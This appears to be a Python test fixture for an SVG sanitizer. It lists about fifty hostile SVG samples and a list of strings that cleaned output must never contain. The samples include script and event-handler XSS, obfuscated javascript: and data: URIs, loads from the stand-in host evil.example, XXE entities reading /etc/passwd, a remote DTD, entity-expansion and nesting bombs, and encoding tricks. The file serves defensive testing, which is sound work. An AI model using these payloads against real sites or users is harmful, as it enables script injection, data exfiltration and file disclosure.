"""SVG files that would do more than draw, and what none of them may leave behind."""

_OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" {}>'
_SHAPE = '<path d="M0 0h10v10z"/>'


def _with(inside: str, root: str = "") -> bytes:
    return (_OPEN.format(f'viewBox="0 0 10 10" {root}') + _SHAPE + inside + "</svg>").encode()


HOSTILE: tuple[bytes, ...] = (
    _with("<script>alert(1)</script>"),
    _with('<script href="//evil.example/x.js"/>'),
    _with('<script xlink:href="data:text/javascript,alert(1)"/>'),
    _with("<SCRIPT>alert(1)</SCRIPT>"),
    _with('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'),
    _with('<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>'),
    _with("", 'onload="alert(1)"'),
    _with('<path d="M0 0" onclick="alert(1)" onmouseover="alert(1)" onfocus="alert(1)"/>'),
    _with('<g onfocusin="alert(1)" tabindex="0"><circle r="3"/></g>'),
    _with('<animate attributeName="href" values="javascript:alert(1)" onbegin="alert(1)"/>'),
    _with('<set attributeName="onmouseover" to="alert(1)"/>'),
    _with('<path d="M0 0"><animate onend="alert(1)" attributeName="x" dur="1ms"/></path>'),
    _with('<a href="javascript:alert(1)"><circle r="9"/></a>'),
    _with('<a xlink:href="javascript&#58;alert(1)"><circle r="9"/></a>'),
    _with('<a xlink:href="java&#10;script:alert(1)"><circle r="9"/></a>'),
    _with('<use href="data:image/svg+xml,&lt;svg id=x onload=alert(1)&gt;#x"/>'),
    _with('<use xlink:href="//evil.example/x.svg#a"/>'),
    _with('<use href="#a"/><g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
    _with('<image href="//evil.example/x.png" width="9" height="9"/>'),
    _with('<image href="file:///etc/passwd" width="9" height="9"/>'),
    _with('<image xlink:href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSkvPg=="/>'),
    _with(
        '<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml">'
        '<img src="x" onerror="alert(1)"/><iframe src="javascript:alert(1)"/></body>'
        "</foreignObject>"
    ),
    _with('<iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/>'),
    _with('<embed xmlns="http://www.w3.org/1999/xhtml" src="//evil.example/"/>'),
    _with("<style>@import url(//evil.example/x.css);</style>"),
    _with("<style>.a{fill:url(//evil.example/x)}</style>", 'class="a"'),
    _with("<style>@font-face{font-family:a;src:url(//evil.example/x)}</style>"),
    _with("<style>.a{fill:\\75rl(//evil.example)}</style><g class='a'/>"),
    _with('<path d="M0 0" style="fill:url(//evil.example/x);stroke:red"/>'),
    _with('<path d="M0 0" style="fill:expression(alert(1))"/>'),
    _with('<path d="M0 0" fill="url(&quot;//evil.example/x#a&quot;)"/>'),
    _with('<path d="M0 0" mask="url(//evil.example/m.svg#m)" filter="url(//evil.example/f#f)"/>'),
    _with('<filter id="f"><feImage href="//evil.example/x"/></filter>'),
    _with('<pattern id="p"><image href="//evil.example/x"/></pattern>'),
    _with('<linearGradient id="l" href="//evil.example/x#l"/>'),
    _with('<text><tspan onclick="alert(1)">x</tspan></text>'),
    _with("<title><![CDATA[</title><script>alert(1)</script>]]></title>"),
    _with("<desc>&lt;script&gt;alert(1)&lt;/script&gt;</desc>"),
    _with('<handler xmlns="http://www.w3.org/2001/xml-events">alert(1)</handler>'),
    _with("<metadata><script>alert(1)</script></metadata>"),
    b'<?xml-stylesheet href="javascript:alert(1)"?>' + _with(""),
    b'<?xml-stylesheet type="text/css" href="//evil.example/x.css"?>' + _with(""),
    b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + _with("<desc>&x;</desc>"),
    b'<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>' + _with("<desc>&b;</desc>"),
    b'<!DOCTYPE svg SYSTEM "//evil.example/x.dtd">' + _with(""),
    b'<?xml version="1.0" encoding="UTF-7"?>' + _with("+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    _with("").decode().encode("utf-16"),
    _with("<g>" * 5000 + "</g>" * 5000),
    _with("<path d='M0 0'/>" * 25_000),
    b"<html><script>alert(1)</script></html><svg/>",
    b"<svg><path d='M0 0'/></svg><script>alert(1)</script>",
    b"<svg onload=alert(1)>",
)
FORBIDDEN = (
    "script>",
    "<script",
    "javascript:",
    'alert(1)"',
    "onload",
    "onclick",
    "evil.example",
    "<use",
    "<image",
    "<foreignobject",
    "<iframe",
    "<style",
    "style=",
    "<animate",
    "<set",
    "<!entity",
    "<?xml",
    "data:",
    "passwd",
)
"""What no drawing holds once it was written again (but as words, escaped)."""
